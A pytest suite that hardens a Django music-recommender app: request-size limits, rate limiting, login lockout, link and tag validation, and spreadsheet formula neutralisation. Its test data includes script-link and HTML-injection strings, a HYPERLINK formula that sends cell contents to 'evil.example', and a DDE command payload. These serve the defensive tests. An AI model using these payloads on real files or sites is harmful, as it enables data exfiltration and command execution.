"""Issue #16, second hardening round: each test here failed before its fix."""

import json
import threading
from datetime import timedelta

import pytest
from django.contrib.sessions.models import Session
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, connection, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from recommender import curation, spreadsheet
from recommender.library import ingest_many
from recommender.models import Recognition, Song, Tag, TypicalSong
from webapp import ratelimit
from webapp.retention import purge_expired

pytestmark = pytest.mark.django_db


@pytest.fixture
def clock(monkeypatch):
    now = [900 * 1_900_000 + 15.0]
    monkeypatch.setattr(ratelimit, "clock", lambda: now[0])
    return now


# --------------------------------------------------------------------------- request size


def test_an_oversized_request_is_refused_on_its_header_before_the_body_is_read(client, settings):
    settings.MIEN_MAX_REQUEST_BYTES = 1000
    # The declared length is a lie far beyond the body: only the header can have been read.
    response = client.post(reverse("login"), data=b"x" * 10, content_type="application/octet-stream",
                           CONTENT_LENGTH="50000000")
    assert response.status_code == 413 and "too large" in response.content.decode()
    api = client.post(reverse("api:favourites"), data=b"{}", content_type="application/json",
                      CONTENT_LENGTH="50000000")
    assert api.status_code == 413 and "too large" in api.json()["error"]


def test_a_chunked_body_is_refused(client):
    response = client.post(reverse("api:recognitions"), data=b"", content_type="multipart/form-data; boundary=x",
                           HTTP_TRANSFER_ENCODING="chunked")
    assert response.status_code == 411 and "Content-Length" in response.json()["error"]


def test_a_snapshot_is_one_image_part(client, face_photo):
    parts = {"image": SimpleUploadedFile("a.jpg", face_photo, "image/jpeg"),
             "other": SimpleUploadedFile("b.jpg", face_photo, "image/jpeg")}
    response = client.post(reverse("api:recognitions"), parts)
    assert response.status_code == 400 and "one photo" in response.json()["error"]
    assert not Recognition.objects.exists()


def test_the_upload_limits_are_set(settings):
    assert settings.DATA_UPLOAD_MAX_NUMBER_FILES == 1
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == settings.MIEN_MAX_UPLOAD_BYTES
    assert settings.MIEN_MAX_REQUEST_BYTES < 2 * settings.MIEN_MAX_UPLOAD_BYTES


# --------------------------------------------------------------------------- sliding window


def test_no_burst_across_a_window_boundary(clock):
    rate = (10, 60)
    clock[0] = 60 * 1_000_000 + 59.0  # one second before a fixed window would end
    assert [ratelimit.hit("t", "me", rate) for _ in range(10)] == [0] * 10
    clock[0] += 2  # a fixed window would start counting afresh here
    assert ratelimit.hit("t", "me", rate) == 58
    clock[0] += 57
    assert ratelimit.hit("t", "me", rate) == 1
    clock[0] += 1
    assert ratelimit.hit("t", "me", rate) == 0


def test_no_span_of_the_window_ever_holds_more_than_the_limit(clock):
    import random

    rng = random.Random(16)
    rate, allowed = (5, 10), []
    for _ in range(400):
        clock[0] += rng.choice([0.1, 0.5, 1, 3])
        if ratelimit.hit("span", "me", rate) == 0:
            allowed.append(clock[0])
    assert len(allowed) > 50
    for index, start in enumerate(allowed):
        assert sum(1 for t in allowed[index:] if t < start + rate[1]) <= rate[0]


def test_the_redis_sliding_window_agrees_across_threads(settings, clock):
    import os

    url = os.environ.get("MIEN_TEST_REDIS_URL")
    if not url:
        pytest.skip("MIEN_TEST_REDIS_URL is not set")
    settings.CACHES = {"default": {"BACKEND": "django.core.cache.backends.redis.RedisCache", "LOCATION": url}}
    ratelimit.reset("threads", "me", (20, 60))
    answers = []
    workers = [threading.Thread(target=lambda: answers.append(ratelimit.hit("threads", "me", (20, 60))))
               for _ in range(60)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()
    assert answers.count(0) == 20 and all(a == 60 for a in answers if a)
    ratelimit.reset("threads", "me", (20, 60))


# --------------------------------------------------------------------------- log-in and sign-up


def login(client, username, password, ip):
    return client.post(reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=ip)


def test_guessers_at_an_address_cannot_lock_out_a_known_browser(clock, owner, django_user_model):
    mine = Client()
    assert login(mine, "owner", "a-long-test-password", "203.0.113.40").status_code == 302
    device = mine.cookies[ratelimit.DEVICE_COOKIE].value
    mine.logout()  # the test client forgets every cookie here; a browser keeps the device cookie
    mine.cookies[ratelimit.DEVICE_COOKIE] = device
    guesser = Client()
    for index in range(110):  # the address's budget and the owner's (name, address) budget, both spent
        login(guesser, "owner" if index % 2 else f"user{index}", "guess", "203.0.113.40")
    assert login(guesser, "owner", "a-long-test-password", "203.0.113.40").status_code == 429
    # The owner's own browser, same address: the right password still works...
    assert login(mine, "owner", "a-long-test-password", "203.0.113.40").status_code == 302
    mine.logout()
    mine.cookies[ratelimit.DEVICE_COOKIE] = device
    # ...and its own failures are still limited, per browser.
    for _ in range(5):
        assert login(mine, "owner", "wrong", "203.0.113.40").status_code == 200
    assert login(mine, "owner", "a-long-test-password", "203.0.113.40").status_code == 429


def test_a_device_cookie_is_for_its_own_user_name_only(clock, owner, outsider):
    browser = Client()
    assert login(browser, "owner", "a-long-test-password", "203.0.113.41").status_code == 302
    browser.logout()
    for _ in range(5):
        login(browser, "outsider", "wrong", "203.0.113.41")
    assert login(browser, "outsider", "a-long-test-password", "203.0.113.41").status_code == 429
    forged = Client()
    forged.cookies[ratelimit.DEVICE_COOKIE] = "not-signed"
    for _ in range(5):
        login(forged, "owner", "wrong", "203.0.113.42")
    assert login(forged, "owner", "a-long-test-password", "203.0.113.42").status_code == 429


def test_failed_logins_at_an_address_do_not_block_deleting_an_account(clock, owner):
    guesser = Client()
    for _ in range(110):
        login(guesser, "owner", "guess", "203.0.113.43")
    client = Client()
    client.force_login(owner)
    response = client.post(reverse("delete_account"), {"password": "a-long-test-password"}, REMOTE_ADDR="203.0.113.43")
    assert response.status_code == 302
    assert not type(owner).objects.filter(pk=owner.pk).exists()


def test_sign_ups_are_throttled_per_address(clock, settings, django_user_model):
    settings.MIEN_SIGNUP_IP_RATE = (3, 3600)
    for index in range(3):
        created = Client().post(reverse("signup"), {"username": f"new{index}", "password1": "a-Long-pass-16!",
                                                    "password2": "a-Long-pass-16!"}, REMOTE_ADDR="203.0.113.50")
        assert created.status_code == 302
    refused = Client().post(reverse("signup"), {"username": "new9", "password1": "a-Long-pass-16!",
                                                "password2": "a-Long-pass-16!"}, REMOTE_ADDR="203.0.113.50")
    assert refused.status_code == 429 and refused["Retry-After"] == "3600"
    assert "Too many new accounts" in refused.content.decode()
    assert not django_user_model.objects.filter(username="new9").exists()


# --------------------------------------------------------------------------- model rules


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,<script>", "ftp://example.org/a.mp3",
                                 "JAVASCRIPT:alert(1)"])
def test_a_song_link_must_be_a_web_address_however_it_is_written(few_songs, url):
    song = few_songs[0]
    with pytest.raises(IntegrityError), transaction.atomic():
        Song.objects.filter(pk=song.pk).update(url=url)
    with pytest.raises(IntegrityError), transaction.atomic():
        Song.objects.filter(pk=song.pk).update(audio_url=url)
    song.embed_url = url
    with pytest.raises(ValidationError):
        song.full_clean()


def test_ingest_drops_an_item_with_a_script_link_or_a_bad_tag(db):
    report = ingest_many([
        {"source": "manual", "external_id": "a", "title": "A", "artist": "B", "url": "javascript:alert(1)"},
        {"source": "manual", "external_id": "b", "title": "A", "artist": "B", "tags": ['"><img']},
        {"source": "manual", "external_id": "c", "title": "C", "artist": "D", "url": "https://example.org/c"},
    ])
    assert [reason for _index, reason in report.dropped] == ["url is not an http(s) address",
                                                             "tag '\"><img' is not a slug (letters, digits, - or _)"]
    assert list(Song.objects.values_list("external_id", flat=True)) == ["c"]


def test_a_tag_name_is_a_slug_on_every_write_path(few_songs):
    with pytest.raises(IntegrityError), transaction.atomic():
        Tag.objects.create(name='"><img')
    with pytest.raises(ValueError):
        curation.add_tag(few_songs, "a b")
    assert not Tag.objects.exists()


def test_the_excel_import_refuses_a_tag_that_is_not_a_slug(few_songs, tmp_path):
    path = tmp_path / "library.xlsx"
    spreadsheet.export_library(path)
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book.active
    tags_column = [c.value for c in sheet[1]].index("tags") + 1
    sheet.cell(row=2, column=tags_column, value='"><img')
    book.save(path)
    with pytest.raises(spreadsheet.LibraryImportError, match="slugs"):
        spreadsheet.import_library(path)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1", "'quoted",
            "=cmd|' /C calc'!A0"]


def test_every_formula_trigger_of_owasp_is_neutralised():
    from recommender.spreadsheet import neutralise, restore

    for value in ["=1", "+1", "-1", "@1", "\t=1", "\r=1", "'x", "plain", "", 3]:
        cell = neutralise(value)
        assert restore(cell) == value
        if isinstance(value, str) and value[:1] in "=+-@\t\r'" and value:
            assert cell == "'" + value


def test_the_excel_export_writes_no_formula_and_the_import_gives_the_titles_back(few_songs, tmp_path):
    for song, title in zip(few_songs, FORMULAS):
        Song.objects.filter(pk=song.pk).update(title=title, artist=title)
    extra = Song.objects.create(source="manual", external_id="x", title=FORMULAS[5], artist=FORMULAS[6])
    path = tmp_path / "library.xlsx"
    spreadsheet.export_library(path)
    from openpyxl import load_workbook

    cells = [cell for row in load_workbook(path).active.iter_rows() for cell in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    report = spreadsheet.import_library(path)
    assert report.renamed == 0 and report.rows == len(few_songs) + 1
    assert [s.title for s in Song.objects.order_by("pk")] == [*FORMULAS[:5], FORMULAS[5]]
    assert Song.objects.get(pk=extra.pk).artist == FORMULAS[6]


# --------------------------------------------------------------------------- retention


def test_anonymous_recognitions_and_expired_sessions_are_purged(owner, settings):
    settings.MIEN_ANONYMOUS_RETENTION_DAYS = 7
    old = timezone.now() - timedelta(days=8)
    anonymous_old = Recognition.objects.create(session_key="abc")
    anonymous_new = Recognition.objects.create(session_key="abc")
    owned_old = Recognition.objects.create(user=owner)
    Recognition.objects.filter(pk__in=[anonymous_old.pk, owned_old.pk]).update(created_at=old)
    Session.objects.create(session_key="expired", session_data="", expire_date=timezone.now() - timedelta(seconds=1))
    Session.objects.create(session_key="live", session_data="", expire_date=timezone.now() + timedelta(days=1))
    assert purge_expired() == {"recognitions": 1, "sessions": 1}
    assert set(Recognition.objects.values_list("pk", flat=True)) == {anonymous_new.pk, owned_old.pk}
    assert list(Session.objects.values_list("session_key", flat=True)) == ["live"]
    assert settings.CELERY_BEAT_SCHEDULE["purge-expired-data"]["task"] == "webapp.tasks.purge_expired_data"


# --------------------------------------------------------------------------- the paper's three songs


@pytest.mark.django_db(transaction=True)
def test_parallel_requests_cannot_store_more_than_three_typical_songs(owner):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL (row locks)")
    songs = [Song.objects.create(source="manual", external_id=f"race-{i}", title=f"R{i}", artist="A") for i in range(12)]
    barrier, codes = threading.Barrier(len(songs)), []

    def pick(song):
        from django.db import connections

        client = Client()
        client.force_login(owner)
        barrier.wait()
        try:
            codes.append(client.post(reverse("api:typical_songs"), json.dumps({"emotion": "happy", "song_id": song.id}),
                                     content_type="application/json").status_code)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=pick, args=(song,)) for song in songs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [201] * 3 + [409] * 9
    assert TypicalSong.objects.filter(user=owner, emotion="happy").count() == 3


# --------------------------------------------------------------------------- image types


def test_the_decode_error_and_the_415_name_the_same_image_types(client):
    import re

    from recommender.emotion import ImageDecodeError, probe_image
    from recommender.emotion.images import ALLOWED_FORMATS

    def types_in(message):
        listed = re.search(r"(JPEG.*?) (?:image|photo)", message)[1]
        return {name.strip().upper() for name in re.split(r",| or ", listed) if name.strip()}

    refused = client.post(reverse("api:recognitions"),
                          {"image": SimpleUploadedFile("a.tif", b"II*\x00" + b"\x00" * 64, "image/tiff")})
    assert refused.status_code == 415
    with pytest.raises(ImageDecodeError) as decode_error:
        probe_image(b"II*\x00" + b"\x00" * 64)
    assert types_in(refused.json()["error"]) == types_in(str(decode_error.value)) == set(ALLOWED_FORMATS)
